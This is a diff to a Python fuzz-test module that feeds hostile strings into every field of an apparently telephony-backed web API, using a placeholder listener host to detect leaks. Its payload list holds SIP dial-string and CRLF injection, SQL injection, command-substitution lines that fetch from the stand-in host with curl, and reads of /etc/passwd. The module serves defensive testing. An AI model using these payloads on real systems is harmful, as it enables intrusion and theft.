@@ -1,7 +1,9 @@
 """What strangers send: any field of any route, with texts that once broke into a telephone exchange."""
 
 import json
+from collections.abc import Iterator
 from dataclasses import dataclass, field
+from itertools import product
 from typing import Any
 from urllib.parse import quote
 
@@ -40,14 +42,14 @@ TEMPTING = (
     "__proto__",
 )
 
-# SIP is an address and URL a folder that we listen on; SECRET is looked for in the log.
+# ~HOST~ is an address and ~URL~ a folder that we listen on; ~SECRET~ is looked for in the log.
 TEXTS = (
-    "PJSIP/carrier/sip:100@SIP",
+    "PJSIP/carrier/sip:100@~HOST~",
     "PJSIP/100@carrier",
-    "sip:100@SIP",
-    f"{BUSY}@SIP",
-    f"{BUSY}/sip:100@SIP",
-    f"{BUSY}&PJSIP/carrier/sip:100@SIP",
+    "sip:100@~HOST~",
+    f"{BUSY}@~HOST~",
+    f"{BUSY}/sip:100@~HOST~",
+    f"{BUSY}&PJSIP/carrier/sip:100@~HOST~",
     "Local/s@canary/n",
     f"{BUSY}&Local/s@canary/n",
     f"{BUSY}@canary",
@@ -56,7 +58,7 @@ TEXTS = (
     "101@carrier",
     f"{BUSY}\n",
     f"{BUSY}\r\nX-Evil: 1",
-    f"{BUSY}\r\n\r\nINVITE sip:100@SIP SIP/2.0",
+    f"{BUSY}\r\n\r\nINVITE sip:100@~HOST~ SIP/2.0",
     "\r\nAction: Originate\r\nChannel: Local/s@canary\r\n\r\n",
     f"{BUSY}\x00",
     f" {BUSY} ",
@@ -76,17 +78,17 @@ TEXTS = (
     "1; SELECT pg_sleep(5)",
     "id DESC; --",
     "(SELECT CASE WHEN (1=1) THEN id ELSE call_date END)",
-    "<speak><audio src='URL/ssml'/></speak>",
+    "<speak><audio src='~URL~/ssml'/></speak>",
     "<![CDATA[x]]>&xxe;",
     "${SHELL(touch /tmp/legwork-shell)}",
-    "${CURL(URL/curl)}",
+    "${CURL(~URL~/curl)}",
     "${FILE(/etc/passwd)}",
-    "$(curl URL/sh)",
-    "`curl URL/sh`",
-    "sound:URL/a.wav",
-    "URL/webhook",
-    "http:\\\\URL",
-    "//URL",
+    "$(curl ~URL~/sh)",
+    "`curl ~URL~/sh`",
+    "sound:~URL~/a.wav",
+    "~URL~/webhook",
+    "http:\\\\~URL~",
+    "//~URL~",
     "file:///etc/passwd",
     "../../../../etc/passwd",
     "..%2f..%2fetc%2fpasswd",
@@ -104,7 +106,7 @@ TEXTS = (
     "-1",
     "1e9",
     "NaN",
-    "SECRET",
+    "~SECRET~",
     "",
 )
 ODD: st.SearchStrategy[Any] = st.sampled_from(
@@ -126,7 +128,7 @@ BODIES = st.sampled_from(
     ]
 )
 RAW_PATHS = st.sampled_from(
-    [b"/api/\xff\x1b[2J", b"/api/%00", b"/api/%0d%0aX:%20y", b"/api/../healthz", b"//SIP/api", b"*"]
+    [b"/api/\xff\x1b[2J", b"/api/%00", b"/api/%0d%0aX:%20y", b"/api/../healthz", b"//~HOST~/api", b"*"]
 )
 HEADERS = st.sampled_from(
     [
@@ -173,6 +175,13 @@ def _filled_raw(raw: bytes, places: dict[str, str]) -> bytes:
     for name, place in places.items():
         raw = raw.replace(name.encode(), place.encode())
     return raw
+
+
+def each_text_in_each_field() -> Iterator[Hostile]:
+    """Every text in every documented field, all else good: what a careless check of that field would let through."""
+    for (method, path), good in FIELDS.items():
+        for name, text in product(good, TEXTS):
+            yield Hostile(method, path.encode(), json.dumps(good | {name: text}).encode())
 
 
 @st.composite
